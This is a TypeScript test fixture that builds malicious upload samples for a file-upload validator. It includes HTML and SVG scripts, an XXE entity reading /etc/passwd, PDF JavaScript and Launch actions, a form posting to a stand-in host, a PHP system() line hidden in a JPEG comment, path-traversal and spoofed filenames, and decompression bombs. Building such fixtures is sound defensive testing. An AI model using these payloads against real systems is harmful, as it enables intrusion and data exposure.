// Files that were made to do harm, and how each must end: refused, or kept with the harm taken out. What would do it carries a mark,
// which may be in nothing that is kept.

import { deflateSync } from 'node:zlib';
import { jpegBytes, pdfBytes, pngBytes, pngChunk } from '../../apps/server/src/features/files/test-files.ts';

export interface PoisonedFile {
  readonly what: string;
  /** As it stands in the form, letter for letter. */
  readonly name: string;
  readonly bytes: Buffer;
  readonly ends: 'refused' | 'harmless';
}

export const MARK = 'KAFAL-POISON';
const SCRIPT = `<script>alert('${MARK}')</script>`;

const ascii = (text: string) => Buffer.from(text, 'latin1');
const html = ascii(`<!doctype html>${SCRIPT}`);
const svg = ascii(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert('${MARK}')"/>`);
// The harmless text that every virus checker knows; its producer is EICAR.
const eicar = ascii(`X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*${MARK}`);
const program = Buffer.concat([ascii('MZ'), Buffer.alloc(62), ascii(`PE\0\0${MARK}`)]);
const elf = Buffer.concat([Buffer.from([0x7f]), ascii(`ELF\x02\x01\x01${MARK}`)]);

/** One file in it, stored as it is. */
function zip(name: string, content: Buffer): Buffer {
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 10);
  return Buffer.concat([local, ascii(name), content, central, ascii(name), end]);
}

/** A PDF of these objects, each with its number before it. */
const pdf = (...objects: (string | Buffer)[]) =>
  Buffer.concat([
    ascii('%PDF-1.7\n'),
    ...objects.flatMap((object, place) => [ascii(`${place + 1} 0 obj\n`), Buffer.from(object), ascii('\nendobj\n')]),
    ascii('trailer << /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
  ]);
const stream = (dictionary: string, content: Buffer) =>
  Buffer.concat([ascii(`<< ${dictionary} /Length ${content.length} >>\nstream\n`), content, ascii('\nendstream')]);
const action = `<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\('${MARK}'\\)) >> >>`;
const packed = (text: string) => deflateSync(ascii(text));

function picture(shape: Parameters<typeof pngBytes>[0], ...chunks: [string, Buffer][]): Buffer {
  const bytes = pngBytes(shape);
  // Before the chunk that ends the picture.
  const end = bytes.length - 12;
  return Buffer.concat([
    bytes.subarray(0, end),
    ...chunks.map(([name, content]) => pngChunk(name, content)),
    bytes.subarray(end),
  ]);
}

/** A segment of a JPEG right behind its beginning. */
function jpegWith(marker: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(content.length + 2, 2);
  const bytes = jpegBytes();
  return Buffer.concat([bytes.subarray(0, 2), head, content, bytes.subarray(2)]);
}

function brokenSums(bytes: Buffer): Buffer {
  const broken = Buffer.from(bytes);
  const at = broken.indexOf('IDAT') + 6;
  broken[at] = (broken[at] ?? 0) ^ 0xff;
  return broken;
}

function falseHeader(width: number): Buffer {
  const bytes = Buffer.from(jpegBytes());
  const at = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  bytes.writeUInt16BE(width, at + 5);
  bytes.writeUInt16BE(width, at + 7);
  return bytes;
}

/** GPS and a thumbnail that was cut out, as phones keep them. */
const exif = Buffer.concat([
  ascii('Exif\0\0MM\0*\0\0\0\x08\0\x01\x01\x0e\0\x02\0\0\0\x20\0\0\0\x1a\0\0\0\0'),
  ascii(`GPS 30.3165 78.0322 ${MARK}`.padEnd(40, '\0')),
]);
const bigComment = Buffer.alloc(65_000, MARK);

const refused = (what: string, name: string, bytes: Buffer): PoisonedFile => ({ what, name, bytes, ends: 'refused' });
const harmless = (what: string, name: string, bytes: Buffer): PoisonedFile => ({ what, name, bytes, ends: 'harmless' });

const OF_ANOTHER_TYPE = [
  refused('a PDF that is HTML', 'paper.pdf', html),
  refused('a PNG that is HTML', 'photo.png', html),
  refused('a JPEG that is HTML', 'photo.jpg', html),
  refused('a PNG that is SVG with a script', 'photo.png', svg),
  refused('an SVG', 'photo.svg', svg),
  refused('a program named as a PDF', 'paper.pdf', program),
  refused('a program of Linux named as a JPEG', 'photo.jpg', elf),
  refused('a ZIP named as a PDF', 'paper.pdf', zip('a.txt', ascii(MARK))),
  refused('a document with a macro', 'paper.docm', zip('word/vbaProject.bin', ascii(MARK))),
  refused(
    'a document that reads files of the server (XXE)',
    'paper.docx',
    zip('word/document.xml', ascii(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;${MARK}</x>`)),
  ),
  refused(
    'the same named as a PDF',
    'paper.pdf',
    zip('word/document.xml', ascii(`<!DOCTYPE x [<!ENTITY e SYSTEM "x">]>`)),
  ),
  refused('a GIF named as a PNG', 'photo.png', ascii(`GIF89a${MARK}`)),
  refused('a WebP named as a JPEG', 'photo.jpg', ascii(`RIFF\0\0\0\0WEBPVP8 ${MARK}`)),
  refused('a TIFF named as a JPEG', 'photo.jpg', ascii(`II*\0\x08\0\0\0${MARK}`)),
  refused('a BMP named as a PNG', 'photo.png', ascii(`BM${MARK}`)),
  refused('PostScript named as a PDF', 'paper.pdf', ascii(`%!PS-Adobe-3.0\n(${MARK}) run\n%%EOF\n`)),
  refused('the test of virus checkers as a PDF', 'paper.pdf', eicar),
  refused('the test of virus checkers as a JPEG', 'photo.jpg', eicar),
  refused('a PNG named as a PDF', 'paper.pdf', pngBytes()),
  refused('a PDF named as a PNG', 'photo.png', pdfBytes()),
  refused('a JPEG named as a PNG', 'photo.png', jpegBytes()),
  refused('a shell script named as a PDF', 'paper.pdf', ascii(`#!/bin/sh\necho ${MARK}\n`)),
];

const BY_NAME = [
  refused('a second ending', 'paper.pdf.exe', pdfBytes()),
  refused('an ending that browsers run', 'paper.html', pdfBytes()),
  refused('no ending', 'paper', pdfBytes()),
  refused('nothing but an ending', '.pdf', pdfBytes()),
  refused('a blank before the ending', '   .pdf', pdfBytes()),
  refused('a name of 10,000 letters', `${'x'.repeat(10_000)}.pdf`, pdfBytes()),
  refused('a name that climbs and has no ending', '../../etc/passwd', pdfBytes()),
  refused('letters turned around, so that a program looks like a PDF', 'paper\u202efdp.exe', pdfBytes()),
  harmless('a name that climbs', '../../x.pdf', pdfBytes('climbs')),
  harmless('a name that climbs as on Windows', '..\\..\\x.pdf', pdfBytes('climbs on Windows')),
  harmless('a NUL in the name', 'paper.exe\0.pdf', pdfBytes('nul')),
  harmless('letters turned around in the name', 'exe\u202e.pdf', pdfBytes('turned')),
  harmless('a name that Windows keeps for a device', 'CON.pdf', pdfBytes('device')),
  harmless('a script in the name', '<img src=x onerror=alert(1)>.pdf', pdfBytes('script in the name')),
  harmless('quotes in the name', `a';alert(1);'.pdf`, pdfBytes('quotes')),
];

const BY_SIZE = [
  refused('nothing at all', 'photo.png', Buffer.alloc(0)),
  refused('one byte', 'photo.png', Buffer.from([0x89])),
  refused(
    'one byte more than a paper may have',
    'paper.pdf',
    Buffer.concat([pdfBytes('a'.repeat(5_242_881)), ascii('\n')]),
  ),
];

const PICTURES = [
  refused(
    'a PNG of 50,000 × 50,000 dots in a hundred bytes',
    'photo.png',
    pngBytes({ claimed: { width: 50_000, height: 50_000 } }),
  ),
  refused('a JPEG of 65,500 × 65,500 dots in some hundred bytes', 'photo.jpg', falseHeader(65_500)),
  refused('a PNG of 12,000 × 12,000 real dots', 'photo.png', pngBytes({ width: 12_000, height: 12_000 })),
  refused('a PNG of no dots', 'photo.png', pngBytes({ claimed: { width: 0, height: 1 } })),
  refused(
    'a PNG with more dots than it says',
    'photo.png',
    pngBytes({ width: 9_000, height: 9_000, claimed: { width: 4_000, height: 6_001 } }),
  ),
  refused('a PNG whose sums are wrong', 'photo.png', brokenSums(pngBytes({ width: 20, height: 20 }))),
  refused('a PNG without its last chunk', 'photo.png', pngBytes().subarray(0, -12)),
  refused('a JPEG cut off', 'photo.jpg', jpegBytes().subarray(0, -2)),
  refused('a PNG with HTML behind it', 'photo.png', Buffer.concat([pngBytes(), html])),
  refused('a JPEG with a ZIP behind it', 'photo.jpg', Buffer.concat([jpegBytes(), zip('a.html', html)])),
  refused(
    'a JPEG that never says how large it is',
    'photo.jpg',
    Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0, 2, 0xff, 0xd9]),
  ),
  refused('a JPEG of 2,000 segments', 'photo.jpg', manySegments(2_000)),
  harmless(
    'a PNG whose text unpacks to 100 MB',
    'photo.png',
    picture({ shade: 3 }, ['zTXt', Buffer.concat([ascii('Comment\0\0'), deflateSync(Buffer.alloc(100_000_000))])]),
  ),
  harmless(
    'a PNG with a script in its text',
    'photo.png',
    picture({ shade: 4 }, ['tEXt', ascii(`Comment\0${SCRIPT}`)]),
  ),
  harmless('a PNG with a program in a chunk of its own', 'photo.png', picture({ shade: 5 }, ['kAFl', program])),
  harmless('a JPEG with a script in its comment', 'photo.jpg', jpegWith(0xfe, ascii(SCRIPT))),
  harmless('a JPEG with a program in its comment', 'photo.jpg', jpegWith(0xfe, ascii(`<?php system('${MARK}'); ?>`))),
  harmless('a JPEG with a ZIP in its comment', 'photo.jpg', jpegWith(0xfe, zip('a.html', html))),
  harmless('a JPEG that says where it was taken', 'photo.jpg', jpegWith(0xe1, exif)),
  harmless('a JPEG with a comment of 65,000 letters', 'photo.jpg', jpegWith(0xfe, bigComment)),
];

function manySegments(count: number): Buffer {
  const bytes = jpegBytes();
  const segment = Buffer.from([0xff, 0xfe, 0, 2]);
  return Buffer.concat([bytes.subarray(0, 2), ...Array<Buffer>(count).fill(segment), bytes.subarray(2)]);
}

const PAPERS = [
  refused('a PDF that runs a program when it opens', 'paper.pdf', pdf(action)),
  refused(
    'the same with letters written as numbers',
    'paper.pdf',
    pdf(action.replaceAll('JavaScript', 'J#61vaScrip#74')),
  ),
  refused(
    'the same in packed objects',
    'paper.pdf',
    pdf('<< /Type /Catalog >>', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed(`1 0 ${action}`))),
  ),
  refused(
    'packed twice',
    'paper.pdf',
    pdf(
      '<< /Type /Catalog >>',
      stream(
        '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]',
        ascii(`${packed(`1 0 ${action}`).toString('hex')}>`),
      ),
    ),
  ),
  refused(
    'a PDF that starts another program',
    'paper.pdf',
    pdf(`<< /Type /Catalog /OpenAction << /S /Launch /F (${MARK}.exe) >> >>`),
  ),
  refused(
    'a PDF with a file inside',
    'paper.pdf',
    pdf('<< /Type /Catalog /Names << /EmbeddedFiles 2 0 R >> >>', stream('/Type /EmbeddedFile', program)),
  ),
  refused(
    'a form that sends what is typed',
    'paper.pdf',
    pdf(`<< /Type /Catalog /AA << /WC << /S /SubmitForm /F (http://${MARK}.example) >> >> >>`),
  ),
  refused(
    'a form that fetches values',
    'paper.pdf',
    pdf(`<< /Type /Catalog /OpenAction << /S /ImportData /F (${MARK}) >> >>`),
  ),
  refused(
    'a form made with XFA',
    'paper.pdf',
    pdf('<< /Type /Catalog /AcroForm << /XFA 2 0 R >> >>', stream('', ascii(`<xdp>${MARK}</xdp>`))),
  ),
  refused(
    'a film that plays',
    'paper.pdf',
    pdf('<< /Type /Catalog >>', `<< /Type /Annot /Subtype /RichMedia /NM (${MARK}) >>`),
  ),
  refused(
    'a PDF locked with a password',
    'paper.pdf',
    Buffer.from(pdfBytes().toString().replace('/Root', '/Encrypt 9 0 R /Root')),
  ),
  refused(
    'a PDF that unpacks to 100 MB',
    'paper.pdf',
    pdf('<< /Type /Catalog >>', stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(100_000_000)))),
  ),
  refused(
    'a PDF that is a ZIP too',
    'paper.pdf',
    Buffer.concat([pdfBytes(), zip('a.exe', program), ascii('\n%%EOF\n')]),
  ),
  refused('a PDF that is HTML too', 'paper.pdf', Buffer.concat([ascii('%PDF-1.4\n'), html, pdfBytes()])),
  refused('a PDF with HTML before it', 'paper.pdf', Buffer.concat([html, pdfBytes()])),
  refused('a PDF with HTML behind it', 'paper.pdf', Buffer.concat([pdfBytes(), html])),
  refused('a PDF cut off', 'paper.pdf', pdfBytes().subarray(0, 60)),
  refused('a PDF with nothing in it', 'paper.pdf', ascii('%PDF-1.4\n%%EOF\n')),
];

export const POISONED_FILES: readonly PoisonedFile[] = [
  ...OF_ANOTHER_TYPE,
  ...BY_NAME,
  ...BY_SIZE,
  ...PICTURES,
  ...PAPERS,
];
